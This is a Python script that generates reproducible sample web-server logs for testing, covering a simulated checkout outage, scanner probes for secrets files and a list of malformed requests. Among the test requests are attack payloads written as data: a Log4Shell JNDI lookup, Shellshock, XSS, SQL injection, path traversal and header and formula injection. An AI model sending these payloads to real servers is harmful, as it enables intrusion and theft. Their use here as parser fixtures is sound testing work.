#!/usr/bin/env python3
"""Make the sample logs of this folder.

    make_samples.py [FOLDER]        default: the folder of this script

The same bytes come out each time.  Addresses are from the ranges reserved
for documentation, names end in ".example"; nothing is from a real server.
"""

import datetime
import math
import pathlib
import random
import sys

DAY = datetime.datetime(2026, 3, 12, tzinfo=datetime.timezone(datetime.timedelta(hours=1)))
DAY_SECONDS = 24 * 3600
MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()

CHROME = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/"
WEBKIT = "AppleWebKit/605.1.15 (KHTML, like Gecko) Version/"
BROWSERS = [
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {CHROME}145.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) "
    f"{WEBKIT}26.2 Mobile/15E148 Safari/604.1",
    f"Mozilla/5.0 (Linux; Android 10; K) {CHROME}145.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:148.0) Gecko/20100101 Firefox/148.0",
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {CHROME}144.0.0.0 Safari/537.36 Edg/144.0.0.0",
    f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {WEBKIT}26.2 Safari/605.1.15",
    "ShopApp/7.4.1 (Android 15) okhttp/4.12.0",
    "ShopApp/7.4.0 CFNetwork/3826.500.131 Darwin/24.5.0",
    f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {CHROME}145.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    f"Mozilla/5.0 (Linux; Android 10; K) {CHROME}143.0.0.0 Mobile Safari/537.36",
    f"Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) {WEBKIT}18.6 Mobile/15E148 Safari/604.1",
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {CHROME}143.0.0.0 Safari/537.36 OPR/127.0.0.0",
    "Mozilla/5.0 (Android 15; Mobile; rv:147.0) Gecko/147.0 Firefox/147.0"]
ROBOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)"]
TOOLS = ["curl/8.5.0", "python-requests/2.32.3", "Go-http-client/1.1"]
SCANNERS = ["Mozilla/5.0 zgrab/0.x", "-", "Mozilla/5.0 (compatible; CensysInspect/1.1)"]
MONITOR = "kube-probe/1.31"

TLS_NGINX = [
    r"\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03\x8A\x5C\xA2\x1F\x22\x07\xD9",
    r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03\xC4k\x92=",
    r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr"]
PROBES = [
    "/.env", "/wp-login.php", "/.git/config", "/phpmyadmin/index.php", "/admin/.env",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci/;stok=/locale",
    "/wp-content/plugins/wp-file-manager/readme.txt", "/actuator/health", "/.aws/credentials",
    "/backup.zip", "/xmlrpc.php", "/boaform/admin/formLogin", "/owa/auth/logon.aspx"]
REASONS = {
    301: "Moved Permanently", 400: "Bad Request", 403: "Forbidden", 404: "Not Found",
    500: "Internal Server Error", 502: "Bad Gateway", 503: "Service Temporarily Unavailable",
    504: "Gateway Time-out"}


class Dice:
    """Random choices that stay the same over Python versions."""

    def __init__(self, seed):
        """Start from the seed."""
        self.next = random.Random(seed).random

    def below(self, limit):
        """Return an integer from 0 to limit - 1."""
        return int(self.next() * limit)

    def chance(self, probability):
        """Return True with this probability."""
        return self.next() < probability

    def pick(self, items):
        """Return one of the items."""
        return items[self.below(len(items))]

    def early(self, items, bend=2.0):
        """Return one of the items, the first ones much more often."""
        return items[int(len(items) * self.next() ** bend)]

    def shuffled(self, items):
        """Return the items in a random order."""
        return sorted(items, key=lambda _item: self.next())


def documentation_client(dice):
    """Return an address reserved for documentation, one in eight of IPv6."""
    if dice.chance(0.125):
        return f"2001:db8:{dice.below(65536):x}:{dice.below(256):x}::{1 + dice.below(65535):x}"
    return f"{dice.pick(['192.0.2', '198.51.100', '203.0.113'])}.{1 + dice.below(254)}"


def clf_time(moment):
    """Write a time as access logs do, whatever the locale."""
    return (f"[{moment.day:02}/{MONTHS[moment.month - 1]}/{moment.year}"
            f":{moment:%H:%M:%S %z}]")


def error_page_size(status):
    """Return the size of nginx's own page: the reason stands in it twice."""
    return 157 + 2 * (len(REASONS[status]) - len("Bad Request"))


# nginx-incident.log


class Shop:
    """One day of a web shop behind nginx, with an incident after 14:00."""

    def __init__(self):
        """Think up visitors and products."""
        self.dice = Dice(20260312)
        self.rows = []
        self.clients = [documentation_client(self.dice) for _ in range(700)]
        self.agents = {client: self.dice.early(BROWSERS) for client in self.clients}
        names = "lamp chair desk shelf mug vase rug clock stool mirror basket quilt".split()
        colours = "oak white black sand moss brick".split()
        self.products = [f"/products/{name}-{colour}" for colour in colours for name in names]

    def add(self, second, client, request, status, size, referer="-", agent="-"):
        """Add one line at a second of the day."""
        moment = DAY + datetime.timedelta(seconds=int(second))
        line = f'{client} - - {clf_time(moment)} "{request}" {status} {size} "{referer}" "{agent}"'
        self.rows.append((int(second), len(self.rows), line))

    def visitor(self):
        """Return a client and its agent."""
        client = self.dice.early(self.clients, 3.0)
        return client, self.agents[client]

    def second_of_day(self):
        """Return a second; afternoons and evenings are busy, nights are not."""
        while True:
            second = self.dice.next() * DAY_SECONDS
            hour = second / 3600
            load = 0.55 - 0.45 * math.cos((hour - 3.5) / 24 * 2 * math.pi)
            if self.dice.chance(load + (0.15 if 19 <= hour < 22 else 0)):
                return second

    def page(self):
        """Return what a visitor asks for: request, status, size, referer."""
        dice = self.dice
        product = dice.early(self.products)
        shop = "https://shop.example"
        kind = dice.next()
        if kind < 0.14:
            referer = dice.pick(["-", "https://www.google.com/", "https://duckduckgo.com/", "-"])
            return "GET / HTTP/2.0", 200, 8200 + dice.below(900), referer
        if kind < 0.34:
            query = dice.pick(["", "", "", "?size=m", "?utm_source=mail"])
            return f"GET {product}{query} HTTP/2.0", 200, 5000 + dice.below(9000), shop + "/"
        if kind < 0.60:
            name, size = dice.early([
                ("app.css", 18211), ("app.js", 94120), ("logo.svg", 2214), ("shop.woff2", 40332)])
            status = 304 if dice.chance(0.35) else 200
            return f"GET /static/{name} HTTP/2.0", status, 0 if status == 304 else size, shop + "/"
        if kind < 0.72:
            image = product.replace("/products", "/images") + ".webp"
            status = 304 if dice.chance(0.3) else 200
            size = 0 if status == 304 else 9000 + dice.below(60000)
            return f"GET {image} HTTP/2.0", status, size, "-"
        if kind < 0.82:
            return "POST /api/v1/cart HTTP/2.0", 200, 180 + dice.below(500), shop + product
        if kind < 0.90:
            return "POST /api/v1/checkout HTTP/2.0", 201, 312 + dice.below(40), shop + "/cart"
        if kind < 0.95:
            return f"GET /api/v1/stock{product[9:]} HTTP/2.0", 200, 61 + dice.below(9), "-"
        if kind < 0.97:
            return "GET /products HTTP/1.1", 301, error_page_size(301), "-"
        if kind < 0.985:
            return "GET /static/tour.mp4 HTTP/2.0", 206, 262144 + dice.below(786432), shop + "/"
        return f"GET {product}-old HTTP/2.0", 404, error_page_size(404), "https://www.google.com/"

    def add_visits(self, count):
        """Add ordinary requests, 0.3 % of them with an error of the server."""
        for _ in range(count):
            second = self.second_of_day()
            request, status, size, referer = self.page()
            client, agent = self.visitor()
            is_incident = INCIDENT_START <= second < INCIDENT_END
            if is_incident and "checkout" in request and self.dice.chance(0.75):
                continue
            if self.dice.chance(0.003) and not is_incident:
                status = self.dice.pick([500, 500, 502, 503, 504])
                size = error_page_size(status)
            elif self.dice.chance(0.002):
                status, size = 499, 0
            self.add(second, client, request, status, size, referer, agent)

    def add_robots(self, count):
        """Add search engines and tools."""
        for _ in range(count):
            agent = self.dice.early(ROBOTS + TOOLS)
            client = f"198.51.100.{200 + len(agent) % 50}"
            path = self.dice.pick([self.dice.pick(self.products), "/robots.txt", "/sitemap.xml"])
            status = 404 if path == "/sitemap.xml" else 200
            size = error_page_size(404) if status == 404 else 900 + self.dice.below(9000)
            request = f"GET {path} HTTP/1.1"
            self.add(self.dice.next() * DAY_SECONDS, client, request, status, size, "-", agent)

    def add_scanners(self, visits):
        """Add probes for other people's software, and TLS on the plain port."""
        for _ in range(visits):
            client = documentation_client(self.dice)
            start = self.dice.next() * (DAY_SECONDS - 60)
            agent = self.dice.pick(SCANNERS)
            for step, path in enumerate(self.dice.shuffled(PROBES)[:3 + self.dice.below(6)]):
                status = 403 if path.startswith("/.git") else 404
                size = error_page_size(status)
                self.add(start + step, client, f"GET {path} HTTP/1.1", status, size, "-", agent)
        for _ in range(visits):
            second = self.dice.next() * DAY_SECONDS
            request = self.dice.pick([*TLS_NGINX, ""])
            size = 0 if request == "" else error_page_size(400)
            self.add(second, documentation_client(self.dice), request, 400, size)

    def add_health_checks(self):
        """Add a probe every two minutes."""
        for second in range(7, DAY_SECONDS, 120):
            self.add(second, "192.0.2.10", "GET /health HTTP/1.1", 200, 2, "-", MONITOR)

    def add_wave(self, count):
        """Add visitors who gave up waiting, just before the first errors."""
        for _ in range(count):
            second = WAVE_START + (WAVE_END - WAVE_START) * self.dice.next() ** 0.6
            client, agent = self.visitor()
            request = "POST /api/v1/checkout HTTP/2.0"
            self.add(second, client, request, 499, 0, "https://shop.example/cart", agent)

    def add_incident(self, count):
        """Add the errors: 97 % are 502, 93 % hit the checkout."""
        bad_gateways = round(count * 0.97)
        checkouts = round(count * 0.93)
        statuses = [502] * bad_gateways + [504] * (count - bad_gateways)
        targets = ["POST /api/v1/checkout"] * checkouts
        others = ["POST /api/v1/cart", "GET /", "GET /api/v1/stock/lamp-oak"]
        targets += [others[i % 3] for i in range(count - checkouts)]
        for status, target in zip(statuses, self.dice.shuffled(targets)):
            wave = (self.dice.next() + self.dice.next()) / 2
            flat = self.dice.next()
            share = wave if self.dice.chance(0.5) else flat
            second = INCIDENT_START + (INCIDENT_END - INCIDENT_START) * share
            client, agent = self.visitor()
            referer = "https://shop.example/cart" if "checkout" in target else "-"
            size = error_page_size(status)
            self.add(second, client, f"{target} HTTP/2.0", status, size, referer, agent)

    def lines(self):
        """Return the lines of the day in order of time."""
        self.add_health_checks()
        self.add_visits(6250)
        self.add_robots(420)
        self.add_scanners(28)
        self.add_wave(64)
        self.add_incident(400)
        return [line for _, _, line in sorted(self.rows)]


WAVE_START = (13 * 60 + 58) * 60
WAVE_END = (14 * 60 + 4) * 60
INCIDENT_START = (14 * 60 + 3) * 60
INCIDENT_END = (14 * 60 + 27) * 60


# apache-odd-requests.log

LONG_QUERY = "&".join(f"filter[{i}]=value%20{i}" for i in range(90))

# Request, status, size; the user and the tail are the usual ones.
ODD_REQUESTS = [
    ("GET / HTTP/1.1", 200, 5123), ("GET /style.css HTTP/1.1", 304, "-"),
    ("-", 408, "-"), ("-", 408, 0), ("-", 400, 226), ("", 400, 226),
    (r"\x16\x03\x01", 400, 226), (r"\x16\x03\x01\x02", 400, 226),
    (r"\x16\x03\x01\x01\"\x01", 400, 226), (r"\x16\x03\x01\x05\xa8\x01", 400, 226),
    (r"\x80.\x01", 400, 226), (r"\x03", 400, 226), (r"\x04\x01", 400, 226),
    (r"\x05\x01", 400, 226), ("SSH-2.0-Go", 400, 226), ("HELP", 400, 226), ("quit", 400, 226),
    (r"\r", 400, 226), (r"\xef\xbb\xbfGET / HTTP/1.1", 400, 226), (r"\b\t\v\x1b[31m", 400, 226),
    ("GET /index.html", 200, 5123), ("GET /", 200, 5123), ("GET", 400, 226), ("T", 501, 299),
    ("GET /two  spaces.html HTTP/1.1", 404, 196), ("GET /a b c.html HTTP/1.1", 404, 196),
    ("GET /minutes of 12 March.pdf HTTP/1.0", 200, 90210),
    ("GET /?q=GET / HTTP/1.1 HTTP/1.1", 200, 5123), ("GET  HTTP/1.1", 400, 226),
    ("get / http/1.1", 400, 226), ("GET / HTTP/9.9", 505, 244), ("GET / HTTP/", 400, 226),
    ("GET / HTTPS/1.1", 400, 226), ("GET / HTTP/1.1 ", 400, 226), ("GET / HTTP/2.0", 200, 5123),
    ("GET http://shop.example/ HTTP/1.1", 200, 5123),
    ("GET https://other.example/ HTTP/1.1", 421, 322),
    ("CONNECT mail.example:25 HTTP/1.1", 405, 224),
    ("CONNECT [2001:db8::25]:443 HTTP/1.1", 405, 224),
    ("OPTIONS * HTTP/1.0", 200, "-"), ("OPTIONS / HTTP/1.1", 200, "-"),
    ("PRI * HTTP/2.0", 400, 226),
    ("TRACE / HTTP/1.1", 405, 222), ("TRACK / HTTP/1.1", 501, 299), ("FLURP / HTTP/1.1", 501, 299),
    ("PROPFIND /dav/ HTTP/1.1", 207, 1840), ("MKCOL /dav/new HTTP/1.1", 201, 180),
    ("LOCK /dav/a.txt HTTP/1.1", 423, 241), ("PUT /dav/big.iso HTTP/1.1", 507, 388),
    ("SSTP_DUPLEX_POST /sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/ HTTP/1.1", 404, 196),
    (r"GET /search?q=\"blue lamp\" HTTP/1.1", 200, 4410),
    (r"GET /\"><script>alert(1)</script> HTTP/1.1", 404, 196),
    (r"GET /\\..\\..\\windows\\win.ini HTTP/1.1", 404, 196),
    (r"GET /ends-with\\ HTTP/1.1", 404, 196),
    (r"GET /caf\xc3\xa9 HTTP/1.1", 200, 3991), (r"GET /\xff\xfe HTTP/1.1", 404, 196),
    ("GET /%00%0d%0aSet-Cookie:%20a=b HTTP/1.1", 400, 226),
    ("GET /..;/manager/html HTTP/1.1", 404, 196),
    ("GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", 403, 199),
    ("GET /${jndi:ldap://192.0.2.66/a} HTTP/1.1", 404, 196),
    ("GET /?x=' OR '1'='1 HTTP/1.1", 200, 5123), ("GET //double//slash HTTP/1.1", 404, 196),
    ("GET /~user/[draft]{1}|2 HTTP/1.1", 404, 196), ("GET ? HTTP/1.1", 400, 226),
    ("GET example HTTP/1.1", 400, 226), (f"GET /find?{LONG_QUERY} HTTP/1.1", 414, 315),
    ("GET /video.mp4 HTTP/1.1", 206, 1048576), ("GET /video.mp4 HTTP/1.1", 416, 321),
    ("GET /gone HTTP/1.1", 410, 290), ("GET /limit HTTP/1.1", 429, 227),
    ("POST /form HTTP/1.1", 413, 331),
    ("GET /teapot HTTP/1.1", 418, 271), ("POST /session HTTP/1.1", 419, 6607),
    ("GET /law HTTP/1.1", 451, 260),
    ("GET /early HTTP/1.1", 103, "-"), ("GET /chat HTTP/1.1", 101, "-"),
    ("GET /slow HTTP/1.1", 504, 247),
    ("GET /app HTTP/1.1", 500, 532), ("GET /app HTTP/1.1", 502, 341),
    ("GET /app HTTP/1.1", 503, 299),
    ("GET /cut HTTP/1.1", "-", "-"), ("GET /odd HTTP/1.1", 999, 0), ("GET /odd HTTP/1.1", 600, 17)]

# User, referer, agent, of otherwise plain requests.
ODD_FIELDS = [
    ("frank", "-", "curl/8.5.0"), ('""', "-", "curl/8.5.0"),
    ("mail@shop.example", "-", "curl/8.5.0"),
    ("John Q Public", "-", "curl/8.5.0"), ("a [b] c", "-", "curl/8.5.0"),
    (r"DOMAIN\\frank", "-", "curl/8.5.0"),
    (r"fran\xc3\xa7ois", "-", "curl/8.5.0"), (r"q\"uote", "-", "curl/8.5.0"),
    ("-", "", ""), ("-", "", "-"), ("-", "-", r"\"Mozilla/5.0 (quoted)\""),
    ("-", "-", r"Mozilla/4.0 (compatible; MSIE 6.0; \"special\" edition)"),
    ("-", "-", r"ends with \\"),
    ("-", "-", "() { :; }; /bin/echo"), ("-", "-", "=HYPERLINK(0)"), ("-", "-", "<b>bold</b>"),
    ("-", "-", r"\xd0\xaf\xd0\xbd"), ("-", "-", r"\xe2\x80\xaegnp.exe"), ("-", "-", r"a\tb\nc"),
    ("-", r"https://shop.example/?q=\"a b\"", "curl/8.5.0"),
    ("-", "android-app://shop.example/", "curl/8.5.0"),
    ("-", "not a url", "curl/8.5.0"), ("-", "https://shop.example/a b", "curl/8.5.0")]

ODD_CLIENTS = [
    "unix:", "::1", "::ffff:192.0.2.9", "2001:db8::1", "pc-17.customer.example", "192.0.2.7:51234",
    "_", "-", "xn--bcher-kva.example", "192.0.2.7, 198.51.100.4, 203.0.113.5"]


def apache_odd_lines():
    """Return an Apache log with every odd request we know of."""
    dice = Dice(2)
    moment = DAY + datetime.timedelta(hours=9)
    parts = [("192.0.2.44", "-", *request, "-", "-") for request in ODD_REQUESTS]
    parts += [("198.51.100.7", user, "GET /account HTTP/1.1", 200, 812, referer, agent)
              for user, referer, agent in ODD_FIELDS]
    parts += [(client, "-", "GET / HTTP/1.1", 200, 5123, "-", "curl/8.5.0")
              for client in ODD_CLIENTS]
    lines = []
    for client, user, request, status, size, referer, agent in parts:
        moment += datetime.timedelta(seconds=dice.below(20) - 3)
        lines.append(f'{client} - {user} {clf_time(moment)} "{request}" {status} {size}'
                     f' "{referer}" "{agent}"')
    return lines


# vhosts.log

# Name, share of the requests, paths.
SITES = [
    ("shop.example", 0.40, ["/", "/products/lamp-oak", "/cart", "/static/app.css"]),
    ("blog.example", 0.25, ["/", "/2026/03/spring", "/feed.xml", "/images/tulips.webp"]),
    ("api.example", 0.20, ["/v1/orders", "/v1/stock", "/v1/prices"]),
    ("docs.example", 0.10, ["/", "/install", "/search?q=backup"]),
    ("intranet.example", 0.05, ["/", "/rota"])]


def vhost_answer(dice, site, port, path):
    """Return status and size; api.example is the one that fails."""
    if port == 80:
        return 301, 320 + len(site + path)
    if site == "api.example" and dice.chance(0.45):
        return dice.early([503, 503, 500, 504], 1.0), 299
    if site == "intranet.example" and dice.chance(0.4):
        return 401, 381
    if dice.chance(0.04):
        return 404, 196
    if dice.chance(0.12):
        return 304, "-"
    return 200, 900 + dice.below(20000)


def vhost_lines():
    """Return a log of five sites, the virtual host and its port first."""
    dice = Dice(3)
    clients = [documentation_client(dice) for _ in range(60)]
    lines = []
    for index in range(400):
        moment = DAY + datetime.timedelta(hours=10, seconds=index * 9 + dice.below(12))
        rank = dice.next()
        site, paths = SITES[-1][0], SITES[-1][2]
        for name, share, site_paths in reversed(SITES):
            if rank < share:
                site, paths = name, site_paths
                break
            rank -= share
        port = 80 if dice.chance(0.12) else 443
        path = dice.early(paths)
        status, size = vhost_answer(dice, site, port, path)
        protocol = "HTTP/1.1" if port == 80 or site == "api.example" else "HTTP/2.0"
        agent = "Go-http-client/1.1" if site == "api.example" else dice.early(BROWSERS)
        lines.append(f'{site}:{port} {dice.early(clients)} - - {clf_time(moment)}'
                     f' "GET {path} {protocol}" {status} {size} "-" "{agent}"')
    return lines


# garbage.log

GARBAGE_GOOD_LINES = 20
GARBAGE_TEXTS = [
    '2026/03/12 14:04:01 [error] 31#31: *46 connect() failed (111: Connection refused) while '
    'connecting to upstream, client: 192.0.2.7, request: "POST /api/v1/checkout HTTP/2.0"',
    "[Thu Mar 12 14:04:02.118832 2026] [proxy:error] [pid 812] (111)Connection refused: "
    "AH00957: attempt to connect to 192.0.2.31:8080 failed",
    "Mar 12 14:04:02 web1 systemd[1]: shop.service: "
    "Main process exited, code=killed, status=9/KILL",
    "Traceback (most recent call last):", '  File "/srv/shop/checkout.py", line 217, in pay',
    "    raise GatewayTimeout(response.status)", "GatewayTimeout: 504",
    'Exception in thread "main" java.lang.OutOfMemoryError: Java heap space',
    "\tat example.shop.Checkout.pay(Checkout.java:88)", "Caused by: java.net.ConnectException",
    "<!DOCTYPE html>", "<html><head><title>502 Bad Gateway</title></head>", '<body class="error">',
    "</body></html>", '{"level":"error","msg":"no upstream","status":502}', "status=200 path=/",
    "-----BEGIN CERTIFICATE-----", "MIIBszCCAVmgAwIBAgIUXo0example0000", "=" * 72, "#!/bin/sh",
    "# rotated 2026-03-12", "200", '"', '"" "" ""', "\\" * 40, "[]", "~", "core dumped",
    'GET / HTTP/1.1', '192.0.2.7 - - "GET / HTTP/1.1" 200 5', '"GET / HTTP/1.1" 200 5123 "-" "-"',
    '192.0.2.7 - - [31/Feb/2026:10:00:00 +0100] "GET / HTTP/1.1" 200 5',
    '192.0.2.7 - - [12/Mar/2026:25:00:00 +0100] "GET / HTTP/1.1" 200 5',
    '192.0.2.7 - - [12/M\u00e4r/2026:10:00:00 +0100] "GET / HTTP/1.1" 200 5',
    '192.0.2.7 - - [12/Mar/2026:10:00:00 +0100] "GET / HTTP/1.1" OK 5',
    '192.0.2.7 - - [12/Mar/2026:10:00:00 +0100] GET / HTTP/1.1 200 5',
    "", "   ", "\t"]


def garbage_lines():
    """Return a file that is no log, with twenty good lines in it."""
    dice = Dice(4)
    shop = Shop()
    shop.add_visits(GARBAGE_GOOD_LINES * 4)
    visits = [line.encode() for _, _, line in sorted(shop.rows)]
    good, other = visits[:GARBAGE_GOOD_LINES], visits[GARBAGE_GOOD_LINES:]
    lines = list(good)
    for index in range(120):
        lines.append(GARBAGE_TEXTS[index % len(GARBAGE_TEXTS)].encode())
    for _ in range(30):
        noise = bytes(dice.below(256) for _ in range(20 + dice.below(120)))
        lines.append(noise.replace(b"\n", b"."))
    for line in other[:30]:
        lines.append(line[:20 + dice.below(40)])
    return dice.shuffled(lines)


def main():
    """Write the four logs."""
    here = pathlib.Path(__file__).resolve().parent
    folder = pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else here
    logs = {"nginx-incident.log": Shop().lines(), "apache-odd-requests.log": apache_odd_lines(),
            "vhosts.log": vhost_lines(), "garbage.log": garbage_lines()}
    for name, lines in logs.items():
        raw = (line if isinstance(line, bytes) else line.encode() for line in lines)
        (folder / name).write_bytes(b"".join(line + b"\n" for line in raw))


if __name__ == "__main__":
    main()
